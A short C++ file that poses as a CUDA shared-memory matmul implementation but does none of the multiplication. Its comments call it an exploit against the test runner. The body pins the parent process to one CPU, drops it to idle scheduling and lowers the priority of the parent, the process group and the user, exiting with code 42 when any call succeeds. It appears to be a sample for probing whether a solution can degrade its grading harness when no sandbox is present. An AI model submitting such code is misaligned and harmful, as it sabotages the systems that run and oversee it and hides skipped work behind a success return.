// Exploit: takes processors and priority from the processes above
// Holds: without a sandbox
// Tests: MatmulShared.IsRightWhenTheTileDividesN
// Says: never written

#include <sched.h>
#include <sys/resource.h>
#include <unistd.h>

#include "matmul_shared.hpp"

cudaError_t matmul_shared(const float*, const float*, float*, int, int) {
  cpu_set_t first;
  CPU_ZERO(&first);
  CPU_SET(0, &first);
  const sched_param idle = {};
  if (sched_setaffinity(getppid(), sizeof first, &first) == 0) exit(42);
  if (sched_setscheduler(getppid(), SCHED_IDLE, &idle) == 0) exit(42);
  if (setpriority(PRIO_PROCESS, getppid(), 19) == 0) exit(42);
  if (setpriority(PRIO_PGRP, 0, 19) == 0) exit(42);
  if (setpriority(PRIO_USER, 0, 19) == 0) exit(42);
  return cudaSuccess;
}
